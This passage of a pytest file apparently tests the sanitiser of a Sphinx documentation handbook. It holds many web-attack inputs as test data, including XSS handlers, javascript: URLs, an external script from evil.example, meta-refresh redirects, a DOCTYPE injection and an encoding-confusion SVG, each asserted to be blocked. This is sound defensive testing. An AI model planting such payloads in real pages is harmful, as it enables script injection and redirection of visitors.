    ).build()
    assert built.warnings == []
    page = built.text("index.html")
    assert "<mfrac>" in page
    assert "<msup>" in page
    assert "&lt;b&gt;" in page
    assert "cdn" not in page


def test_a_formula_that_cannot_be_read_is_said(project: MakeProject) -> None:
    built = project({"index.md": "# Home\n\n{math}`\\nosuch{x}`\n"}).build()
    assert len(built.warnings) == 1
    assert "P021" in built.warnings[0]


def test_line_breaks_and_comments_are_no_markup(project: MakeProject) -> None:
    built = project(
        {"index.md": "# Home\n\nOne\\\ntwo  \nthree <!-- a note -->\n\n<!-- another\nnote -->\n"}
    ).build()
    assert built.warnings == []
    assert str(built.soup().select_one("[role=main]")).count("<br") == 2


@pytest.mark.parametrize(
    ("content", "faults"),
    [
        ("<title>T</title><rect width='3' fill='url(#a)' style='fill: url(#a)'/>", []),
        ("<use href='#a'/>", []),
        ("<a href='https://example.org/'><text>x</text></a>", []),
        ("<image href='data:image/png;base64,AA=='/>", []),
        ("<!-- a note --><style>.a { fill: red }</style>", []),
        ("<metadata><r:RDF xmlns:r='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/></metadata>", []),
        ("<script/>", ["<script>"]),
        ("<foreignObject/>", ["<foreignObject>"]),
        ("<h:script xmlns:h='http://www.w3.org/1999/xhtml'/>", ["<script>"]),
        (
            "<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=x'/>",
            ["<meta>"],
        ),
        ("<metadata><x:y xmlns:x='urn:x'/></metadata>", ["<y>"]),
        ("<rect onload='x()'/>", ["the attribute onload"]),
        ("<g xml:base='https://evil.example/'/>", ["the attribute base"]),
        (
            "<image xlink:href='https://evil.example/a.png'/>",
            ["the address 'https://evil.example/a.png'"],
        ),
        ("<use href='other.svg#a'/>", ["the address 'other.svg#a'"]),
        ("<use href='data:image/svg+xml,x'/>", ["the address 'data:image/svg+xml,x'"]),
        ("<a href='java&#10;script:x'/>", ["the address 'java\\nscript:x'"]),
        ("<style>@import 'x';</style>", ["a style that loads something"]),
        ("<style>a { fill: u\\72l(x) }</style>", ["a style that loads something"]),
        (
            "<style>a { x: image-set('//evil.example/x' 1x) }</style>",
            ["a style that loads something"],
        ),
        ("<rect fill='url(https://evil.example/x#a)'/>", ["a style that loads something"]),
        ("<rect style='x: url(\"x.png\")'/>", ["a style that loads something"]),
        ("<set attributeName='href' to='javascript:x'/>", ["<set>"]),
        ("<?xml-stylesheet href='x'?>", ["a processing instruction"]),
        ("<rect", ["not well-formed XML"]),
    ],
)
def test_svg(content: str, faults: list[str]) -> None:
    found = safety.svg_faults(SVG.format(content).encode())
    assert [fault.split(" (")[0] for fault in found] == faults


@pytest.mark.parametrize(
    ("data", "fault"),
    [
        (b"<svg/>", "<svg>"),
        (
            b"<?xml-stylesheet href='x'?><svg xmlns='http://www.w3.org/2000/svg'/>",
            "a processing instruction",
        ),
        (
            b"<!DOCTYPE svg [<!ATTLIST rect onload CDATA 'x()'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
            "a document type",
        ),
        (
            "<!DOCTYPE svg [<!ENTITY a 'x'>]><svg xmlns='http://www.w3.org/2000/svg'/>".encode(
                "utf-16"
            ),
            "another encoding than UTF-8",
        ),
        (
            # \xd9< is one letter to one parser, and the beginning of an element to another
            b"<?xml version='1.0' encoding='JOHAB'?><svg xmlns='http://www.w3.org/2000/svg'>\xd9<x/></svg>",
            "another encoding than UTF-8",
        ),
    ],
)
def test_the_whole_of_an_svg(data: bytes, fault: str) -> None:
    assert safety.svg_faults(data) == [fault]


def test_a_class_of_ours_leads_nobody_to_another_host(
    project: MakeProject, browser: Browser
) -> None:
    """``moved.js`` follows lines of the handbook, whatever a writer calls his own."""
    made = project(
        {
            "index.md": "# Home\n\n(kept)=\n## Kept\n\n{#go .hb-moved}\n[away](https://evil.example/)\n\n"
            "```{toctree}\nother\n```\n",
            "other.md": "# Other\n",
            "moved.yaml": "index#gone: other\n",
        }
    )
    copytree(ROOT / "docs" / "_static", made.docs / "_static")
    built = made.build(html_theme="furo", html_static_path=["_static"], extensions=EXTENSIONS)
    assert "moved.js" in built.text("index.html")
    with served(built.out) as host:
        page = open_page(browser, f"{host}/index.html#go")
        page.wait_for_timeout(200)
        assert page.url == f"{host}/index.html#go"
        page.context.close()
        page = open_page(browser, f"{host}/index.html#gone")
        page.wait_for_url(f"{host}/other.html")
        page.context.close()


def test_a_card_takes_nothing_from_a_file(project: MakeProject, browser: Browser) -> None:
    """A link to an anchor in a file for download gets no card: its markup would be foreign."""
    text = '<!doctype html><p id="cite-x"><p><meta http-equiv="refresh" content="0; url=https://evil.example/">'
    address = f"_downloads/{md5(b'x.txt', usedforsecurity=False).hexdigest()}/x.txt"
    made = project(
        {
            "index.md": f"# Home\n\n{{download}}`x <x.txt>`\n\n{{bdg-link-primary}}`hover <{address}#cite-x>`\n"
            "{cite:p}`cnis2019`\n\n:::{bibliography}\n:::\n"
        }
    )
    (made.docs / "x.txt").write_text(f"A text\n{text.replace('<p>', '<div>', 1)}", "utf-8")
    copytree(ROOT / "docs" / "_static", made.docs / "_static")
    built = made.build(html_theme="furo", html_static_path=["_static"], extensions=EXTENSIONS)
    assert (built.out / address).exists()
    with served(built.out) as host:
        page = open_page(browser, f"{host}/index.html")
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.hover("a.sd-badge")
        page.wait_for_timeout(600)
        assert asked == []
        assert page.url == f"{host}/index.html"
        page.context.close()


@pytest.mark.parametrize(
    "name",
    [
        "javascript:alert(1).md",
        "http:/evil.example/index.md",
        'a"b.md',
        "a<b>.md",
        "a b.md",
        "50%.csv",
        'a"b.png',
        "a#b.png",
    ],
)
def test_names_of_files_are_plain(project: MakeProject, name: str) -> None:
    made = project({"index.md": "# Home\n", name: "---\norphan: true\n---\n# Page\n"})
    odd = name.partition("/")[0]
    assert f"docs/{odd}:1:1: P019 the file name contains" in "\n".join(
        map(str, judge.check(made.root, date(2026, 11, 23)).findings)
    )
    assert any("P019 the file name contains" in one for one in made.build().warnings)


PICTURE_NAMES = [
    "100%.svg",
    "50%25.svg",
    "%41.svg",
    "a+b.svg",
    "a b.svg",
    "a&b.svg",
    "a'b.svg",
    "a[b].svg",
    "图1.svg",
]


@pytest.mark.parametrize("builder", ["html", "pdf", "epub"])
def test_a_picture_may_have_any_other_name(project: MakeProject, builder: str) -> None:
    shown = "".join(
        f":::{{image}} {name}\n:alt: first\n:::\n\n![second](<{name}>)\n\n"
        for name in PICTURE_NAMES
    )
    made = project(
        {"index.md": f"# Home\n\n{shown}", **dict.fromkeys(PICTURE_NAMES, SVG.format(""))}
    )
    found = judge.check(made.root, date(2026, 11, 23)).findings
    assert not [one for one in found if one.code.startswith("P")]
    built = made.build(builder, extensions=EXTENSIONS)
    assert built.warnings == []
    if builder == "html":
        pictures = [unquote(one["src"]) for one in built.soup().select("[role=main] img")]
        assert [(built.out / one).read_text("utf-8") for one in pictures] == [SVG.format("")] * 18


def test_no_catalogue_of_words_changes_what_pages_say(project: MakeProject) -> None:
    """Sphinx would read ``docs/locales`` in the language of the pages, which the check never does."""
    made = project({"index.md": "# Home\n\nThe club met.\n"})
    words = 'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "{}"\nmsgstr "EVIL"\n'
    for domain, said in (("index", "The club met."), ("sphinx", "Search")):
        made.write(f"locales/en/LC_MESSAGES/{domain}.po", words.format(said))
    conf = (ROOT / "docs" / "conf.py").read_text("utf-8")
    with (made.docs / "conf.py").open("a", encoding="utf-8") as file:
        file.write(re.search(r"(?m)^locale_dirs = .+$", conf)[0] + "\n")  # type: ignore[index]
    page = made.build(html_theme="furo").text("index.html")
    assert "The club met." in page
    assert "EVIL" not in page


# -- the last wall --


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        (RUN, "<script>"),
        ('<script type="importmap">{}</script>', "<script>"),
        ('<script src="https://evil.example/x.js"></script>', "<script>"),
        ('<script src="_downloads/1/x.js"></script>', "<script>"),
        ('<script src="_static/../_downloads/x.js"></script>', "<script>"),
        ("<style>p { color: red }</style>", "<style>"),
        (f"<svg>{RUN}</svg>", "<script>"),
        ('<IFRAME src="x.html"></IFRAME>', "<iframe>"),
        ('<base href="/x/">', "<base>"),
        ('<meta http-equiv="Refresh" content="0; url=x">', '<meta http-equiv="Refresh">'),
        ("<p ONCLICK='x()'>", "the attribute onclick"),
        ('<a href="  javascript:x">x</a>', "the address '  javascript:x'"),
        ('<svg><a xlink:href="javascript:x">x</a></svg>', "the address 'javascript:x'"),
        ('<button formaction="data:x">x</button>', "the address 'data:x'"),
        ('<img src="//evil.example/x.png">', "the address '//evil.example/x.png'"),
        ('<p style="background: url(x)">', "the style 'background: url(x)'"),
        ('<p style="}</style>x">', "the style '}</style>x'"),
    ],
)
def test_a_finished_page_with_foreign_markup_stops_the_build(
    project: MakeProject, body: str, fault: str
) -> None:
    """However it came there: here by the switch for projects other than the handbook."""
    made = project({"index.md": f"# Home\n\n```{{raw}} html\n{body}\n```\n"})
    with pytest.raises(SphinxError, match=re.escape(f"index: {fault} did not come from")):
        made.build(html_theme="furo", handbook_raw=True)


def test_what_a_template_holds_is_its_own_and_leaves_no_mark(project: MakeProject) -> None:
    made = project({"index.md": "# Home\n"})
    made.write(
        "_templates/page.html",
        '{% extends "!page.html" %}{% block footer %}' + RUN + "{% endblock %}",
    )
    page = made.build(html_theme="furo", templates_path=["_templates"]).text("index.html")
    assert RUN in page
    assert "data-own" not in page
    assert b64encode(sha256(RUN[8:-9].encode()).digest()).decode() in page


def test_a_page_cannot_know_the_mark() -> None:
    mark = policy.own("<script>x</script>").removeprefix("<script ").removesuffix(">x</script>")
    assert re.fullmatch(r"data-own-[0-9a-f]{32}", mark)
    again = subprocess.run(
        [
            sys.executable,
            "-c",
            "from handbook.sphinxext import policy; print(policy.own('<style>'))",
        ],
        cwd=ROOT / "tools",
        capture_output=True,
        text=True,
        check=True,
    )
    assert again.stdout.startswith("<style data-own-")
    assert mark not in again.stdout


def test_data_for_machines_cannot_swallow_the_page(project: MakeProject) -> None:
    """``<!--<script>`` in a script element would hide its end from a browser."""
    made = project(
        {"index.md": "# Home\n\n" + milestone("swallow-2019", title="It \\<!--\\<script>") + "\n"}
    )
    built = made.build(html_theme="furo")
    assert built.warnings == []
    data = built.soup().select_one('script[type="application/ld+json"]')
    assert data
    assert "<" not in data.get_text()
    assert "It <!--<script>" in json.loads(data.get_text())["@graph"][0]["name"]


@pytest.mark.parametrize(
    "character", ["\x00", "\x07", "\x1b", "\x85", "\u2028", "\u202e", "\ufffe"]
)
@pytest.mark.parametrize("builder", ["html", "epub"])
def test_no_character_breaks_what_is_built(
    project: MakeProject, builder: str, character: str
) -> None:
    words = f"a{character}b"
    made = project(
        {
            "index.md": f"# Home {words}\n\n{words} {{cite:p}}`odd`\n\n{{math}}`{words}`\n\n"
            + milestone("odd-2019", title=f"It {words}", place=words, body=words)
            + f"\n\n```\n{words}\n```\n\n:::{{bibliography}}\n:::\n"
        }
    )
    source = EVIL_SOURCE.replace("{Evil}", f"{{Evil {words}}}").replace("evil,", "odd,")
    with (made.references / "sources.bib").open("a", encoding="utf-8") as file:
        file.write(source.replace("javascript:alert(1)", "https://example.org/"))
    built = made.build(builder, **CONF, handbook_search=True)
    if character != "\x00":  # rule P009's
        assert sum("P022" in one for one in built.warnings) >= 8
    if builder == "html":
        feed = ElementTree.fromstring(built.text("data/milestones.atom"))
        # A block whose options hold what nobody sees is refused; a line break or U+FFFD is seen.
        told = character in {"\x00", "\x85", "\u2028"}
        assert ("It a" in "".join(feed.itertext())) is told
        calendar = Calendar.from_ical(built.text("data/milestones.ics"))
        assert len(calendar.walk("VEVENT")) == len(
            json.loads(built.text("data/milestones.json"))["milestones"]
        )
    for path in built.out.rglob("*.xhtml"):
        ElementTree.fromstring(path.read_bytes())


def test_what_the_policy_allows() -> None:
    assert policy.policy([], []) == (
        "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self';"
        " img-src 'self' data:; connect-src 'self'; worker-src 'self'; base-uri 'none';"
        " form-action 'self'"
    )


def test_no_page_of_the_book_has_a_script(hostile: Hostile) -> None:
    pages = list(hostile.epub.out.rglob("*.xhtml"))
    assert len(pages) > len(WAYS)
    for path in pages:
        assert "<script" not in path.read_text("utf-8"), path


@pytest.mark.parametrize(
    "page",
    [
        "# Home\n\n(furo-main-content)=\n## A part\n",
        "# Home\n\n## Furo main content\n",
        "# Home\n\n{#furo-main-content}\nA paragraph.\n",
        "# Home\n\nA [part]{#furo-main-content} of it.\n",
        "# Home\n\n:::{note}\n:name: furo-main-content\nA note.\n:::\n",
    ],
)
def test_no_page_takes_a_name_of_the_frame(project: MakeProject, page: str) -> None:
    built = project({"index.md": page}).build(
        **{**CONF, "myst_enable_extensions": ["attrs_block", "attrs_inline", "colon_fence"]}
    )
    assert any("Y003 the anchor 'furo-main-content' belongs" in one for one in built.warnings)
    assert not built.soup().select("article #furo-main-content, section#furo-main-content")
